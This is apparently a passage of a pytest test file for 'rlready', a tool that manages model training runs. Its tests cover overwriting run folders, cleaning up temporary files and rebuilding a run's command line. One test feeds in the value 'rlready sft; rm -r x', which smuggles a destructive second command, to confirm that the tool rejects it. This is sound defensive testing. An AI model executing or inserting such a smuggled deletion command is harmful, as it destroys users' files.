        with pytest.raises(UserError, match=r"^a changed while evaluate was reading"):
            run.note_model(id="a", path=Path("a"), role="decoded away from", seen=seen)


def test_a_run_that_is_refused_after_it_has_claimed_its_folder_gives_back_what_was_there(
    fake: Fake, capfd: Any
) -> None:
    """What only shows with the model, such as a context that is too short; after a minute of work the new run stays."""
    assert rlready("sft seed=1 --out run", capfd)[0] == 0
    Path("run/checkpoints/step-1").mkdir(parents=True)
    before = content(Path("run"))
    fake.ends = UserError("the prompt is longer than the context")
    code, says = rlready("sft seed=2 --out run --overwrite", capfd)
    assert (code, says) == (2, "rlready: the prompt is longer than the context")
    assert content(Path("run")) == before
    assert Path("run/checkpoints/step-1").is_dir()
    assert not list(Path("run").glob("*.tmp-*"))
    fake.ends = KeyboardInterrupt()
    assert rlready("sft seed=2 --out run --overwrite", capfd)[0] == 130
    assert read_json(Path("run/record.json"))["config"]["seed"] == 2
    assert not list(Path("run").glob("*.tmp-*"))


def test_what_was_overwritten_is_deleted_once_a_minute_of_work_is_saved(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    with Run(tmp_path, "sft", SFTConfig()) as run:
        run.claim()
        run.write_result(Done(headline="first"))

    def refused_at_last() -> None:
        token = invocation.set(Invocation("rlready sft", overwrite=True))
        with Run(tmp_path, "sft", SFTConfig()) as run:
            invocation.reset(token)
            run.claim()
            assert list(tmp_path.glob("overwritten.tmp-*"))
            run.write_result(Done(headline="second"))
            raise UserError("no more")

    for settled, kept in ((60.0, "first"), (0.0, "second")):
        monkeypatch.setattr("rlready.runs.overwrite.SETTLED", settled)
        with pytest.raises(UserError, match="no more"):
            refused_at_last()
        assert read_json(tmp_path / "result.json")["headline"] == kept
        assert not list(tmp_path.glob("*.tmp-*"))


def test_the_command_of_a_copy_names_the_copy(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """At the old place may be the original, which the command must not continue."""
    monkeypatch.chdir(tmp_path)
    command = "rlready sft seed=1 --out run"
    token = invocation.set(Invocation(command=command))
    try:
        with suppress(KeyboardInterrupt), Run(Path("run"), "sft", SFTConfig()) as run:
            run.claim()
            raise KeyboardInterrupt
    finally:
        invocation.reset(token)
    shutil.copytree("run", "copy")
    for folder, named in (("run", command), ("copy", "rlready sft seed=1 --out copy")):
        record = RunRecord.load(Path(folder))
        assert own_command(Path(folder), record) == named
        with pytest.raises(UserError, match=f"continue it with its own command: {named}$"):
            refuse_unfinished(Path(folder))
    for typed, said in (("rlready sft --out=run", "--out=copy"), ("rlready sft", "--out copy")):
        moved = own_command(Path("copy"), record.model_copy(update={"command": typed}))
        assert moved == f"rlready sft {said}"
    assert own_command(Path("copy"), record.model_copy(update={"command": "rlready sft; rm -r x"})) == ""


def test_the_command_of_a_part_is_that_of_the_whole(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Also of a copy, and where it is asked for from another directory."""
    monkeypatch.chdir(tmp_path)
    command = "rlready sweep s.toml --out runs/a"
    token = invocation.set(Invocation(command=command, part_of="sweep"))
    job = Path("runs/a/sft/one")
    try:
        with suppress(KeyboardInterrupt), Run(job, "sft", SFTConfig()) as run:
            run.claim()
            raise KeyboardInterrupt
    finally:
        invocation.reset(token)
    record = RunRecord.load(job)
    assert own_command(job, record) == command
    shutil.copytree("runs/a", "runs/b")
    copied = Path("runs/b/sft/one")
    assert own_command(copied, record) == "rlready sweep s.toml --out runs/b"
    assert own_command(Path(shutil.copytree(job, "alone")), record) == ""  # its sweep is not there
    (tmp_path / "elsewhere").mkdir()
    monkeypatch.chdir(tmp_path / "elsewhere")
    assert own_command(tmp_path / job, record) == f"rlready sweep s.toml --out {tmp_path}/runs/a"


def test_leftovers_of_all_that_a_run_writes_are_removed_and_names_of_a_user_are_not(tmp_path: Path) -> None:
    """Also by --overwrite, and in a folder in which a run has not begun its work."""
    for verb, config, names in (
        ("rl", RLConfig(), ("trained_prompts.txt", "samples", "log.jsonl")),
        ("inject", InjectConfig(), ("rows.jsonl", "before.jsonl")),
        ("export", ExportConfig(), ("outcome.json", "data")),
    ):
        out = tmp_path / verb
        with suppress(KeyboardInterrupt), Run(out, verb, config) as run:
            run.claim()
            (out / "state").mkdir()
            raise KeyboardInterrupt
        for name in (*names, "plan", "notes/plan"):
            path = out / f"{name}.tmp-77"
            path.parent.mkdir(exist_ok=True)
            path.touch()
        with suppress(KeyboardInterrupt), Run(out, verb, config) as run:
            run.claim()
            raise KeyboardInterrupt
        assert {path.name for path in out.rglob("*.tmp-77")} == {"plan.tmp-77"}
        assert len(list(out.rglob("*.tmp-77"))) == 2
        with pytest.raises(UserError, match=r"cannot be overwritten: it also holds .*notes, .*plan\.tmp-77"):
            empty_folder(out, [config])
    (out := tmp_path / "new").mkdir()
    (out / ".lock").touch()
    (out / "plan.tmp-7").touch()
    with Run(out, "rl", RLConfig()) as run:
        run.claim()
    assert (out / "plan.tmp-7").exists()


def test_an_input_that_is_a_pipe_now_is_not_waited_for(tmp_path: Path) -> None:
    """By the run that has read it as a file, and is named again."""
    file = tmp_path / "rows.jsonl"
    file.write_text("{}")
    with Run(tmp_path / "run", "sft", SFTConfig()) as run:
        run.note_data(id="rows.jsonl", path=file, role="sft")
        run.claim()
        run.write_result(Done())
    file.unlink()
    os.mkfifo(file)
    with pytest.raises(UserError, match=r"rows\.jsonl: not a regular file"), Run(tmp_path / "run", "sft", SFTConfig()):
        pass
